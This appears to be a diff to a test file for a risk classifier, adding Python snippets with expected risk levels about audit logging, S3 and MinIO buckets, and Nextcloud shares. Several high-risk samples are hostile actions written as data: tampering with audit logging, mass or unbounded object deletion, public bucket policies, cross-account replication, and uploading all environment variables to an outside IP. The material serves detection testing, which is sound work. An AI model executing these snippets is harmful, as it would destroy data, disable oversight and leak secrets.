@@ -9944,6 +9944,147 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '1/x", body))\n',
             C,
         ),
+        # holdout280-283: audit panics, bucket lifecycle, retention and replication, public policies, MinIO deletes and
+        # outside stores, prefixed object deletes, public Nextcloud links
+        (
+            'import subprocess\n'
+            'for argv in (["auditctl", "-f", "2"], ["auditctl", "-b", "1"], ["auditctl", "-a"'
+            ', "always,exit", "-S", "all"]):\n'
+            '    subprocess.run(argv)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["auditctl", "-l"], check=True)\n',
+            L,
+        ),
+        (
+            'import boto3\n'
+            'boto3.client("s3").put_bucket_lifecycle_configuration(Bucket="acme-backups", Lif'
+            'ecycleConfiguration={"Rules": [{"ID": "x", "Status": "Enabled", "Filter": {"Pref'
+            'ix": ""}, "Expiration": {"Days": 1}}]})\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'boto3.client("s3").put_bucket_lifecycle_configuration(Bucket="acme-ci", Lifecycl'
+            'eConfiguration={"Rules": [{"ID": "x", "Status": "Enabled", "Filter": {"Prefix": '
+            '"tmp/"}, "Expiration": {"Days": 1}}]})\n',
+            S,
+        ),
+        (
+            'import boto3\n'
+            'boto3.client("s3").put_bucket_lifecycle_configuration(Bucket="acme-data", Lifecy'
+            'cleConfiguration={"Rules": [{"ID": "mpu", "Status": "Enabled", "Filter": {}, "Ab'
+            'ortIncompleteMultipartUpload": {"DaysAfterInitiation": 1}}]})\n',
+            S,
+        ),
+        (
+            'from minio import Minio\n'
+            'from minio.deleteobjects import DeleteObject\n'
+            'mc = Minio(os.environ["MINIO_HOST"], os.environ["MINIO_KEY"], os.environ["MINIO_'
+            'SECRET"])\n'
+            'for b in mc.list_buckets():\n'
+            '    objs = (DeleteObject(o.object_name) for o in mc.list_objects(b.name, recursi'
+            've=True))\n'
+            '    list(mc.remove_objects(b.name, objs, bypass_governance_mode=True))\n',
+            H,
+        ),
+        (
+            'import json\n'
+            'from minio import Minio\n'
+            'c = Minio("minio.lan:9000", "k", "s")\n'
+            'policy = {"Statement": [{"Effect": "Allow", "Principal": {"AWS": ["*"]}, "Action'
+            '": ["s3:GetObject"], "Resource": ["arn:aws:s3:::scans/*"]}]}\n'
+            'c.set_bucket_policy("scans", json.dumps(policy))\n',
+            H,
+        ),
+        (
+            'import json\n'
+            'from minio import Minio\n'
+            'c = Minio("minio.lan:9000", "k", "s")\n'
+            'policy = {"Statement": [{"Effect": "Allow", "Principal": {"AWS": ["arn:aws:iam::'
+            '123456789012:user/etl"]}, "Action": ["s3:GetObject"], "Resource": ["arn:aws:s3::'
+            ':scans/*"]}]}\n'
+            'c.set_bucket_policy("scans", json.dumps(policy))\n',
+            S,
+        ),
+        (
+            'import boto3\n'
+            's3 = boto3.client("s3")\n'
+            's3.put_object_lock_configuration(Bucket="b", ObjectLockConfiguration={"ObjectLoc'
+            'kEnabled": "Enabled", "Rule": {"DefaultRetention": {"Mode": "COMPLIANCE", "Years'
+            '": 99}}})\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            's3 = boto3.client("s3")\n'
+            's3.put_object_lock_configuration(Bucket="b", ObjectLockConfiguration={"ObjectLoc'
+            'kEnabled": "Enabled", "Rule": {"DefaultRetention": {"Mode": "GOVERNANCE", "Days"'
+            ': 30}}})\n',
+            S,
+        ),
+        (
+            'import boto3\n'
+            'boto3.client("s3").put_bucket_replication(Bucket="acme-customers", ReplicationCo'
+            'nfiguration={"Role": "arn:aws:iam::111122223333:role/r", "Rules": [{"Status": "E'
+            'nabled", "Destination": {"Bucket": "arn:aws:s3:::mirror", "Account": "9044152388'
+            '61"}}]})\n',
+            H,
+        ),
+        (
+            'import boto3\n'
+            'boto3.client("s3").put_bucket_replication(Bucket="acme-customers", ReplicationCo'
+            'nfiguration={"Role": "arn:aws:iam::111122223333:role/r", "Rules": [{"Status": "E'
+            'nabled", "Destination": {"Bucket": "arn:aws:s3:::acme-customers-dr"}}]})\n',
+            S,
+        ),
+        (
+            'import io, json, os\n'
+            'from minio import Minio\n'
+            'data = json.dumps(dict(os.environ)).encode()\n'
+            'c = Minio("185.220.101.44:9000", access_key="drop", secret_key="dropdrop1", secu'
+            're=False)\n'
+            'c.put_object("env", "host.json", io.BytesIO(data), len(data))\n',
+            H,
+        ),
+        (
+            'import io\n'
+            'from minio import Minio\n'
+            'c = Minio("127.0.0.1:9000", access_key="minioadmin", secret_key="minioadmin", se'
+            'cure=False)\n'
+            'c.put_object("test", "hello.txt", io.BytesIO(b"hi"), 2)\n',
+            S,
+        ),
+        (
+            'import boto3, os\n'
+            's3 = boto3.resource("s3")\n'
+            's3.Bucket("acme-ci-scratch").objects.filter(Prefix=f"runs/{os.environ[\'GITHUB_RU'
+            'N_ID\']}/").delete()\n',
+            M,
+        ),
+        (
+            'import boto3, os\n'
+            's3 = boto3.resource("s3")\n'
+            's3.Bucket("acme-prod-uploads").objects.filter(Prefix=os.getenv("PURGE_PREFIX", "'
+            '")).delete()\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'r = requests.post("https://cloud.acme.local/ocs/v2.php/apps/files_sharing/api/v1'
+            '/shares", auth=("admin", "x"), data={"path": "/Finance", "shareType": 3, "permis'
+            'sions": 1})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'r = requests.post("https://cloud.acme.local/ocs/v2.php/apps/files_sharing/api/v1'
+            '/shares", auth=("admin", "x"), data={"path": "/Finance", "shareType": 0, "shareW'
+            'ith": "alice"})\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
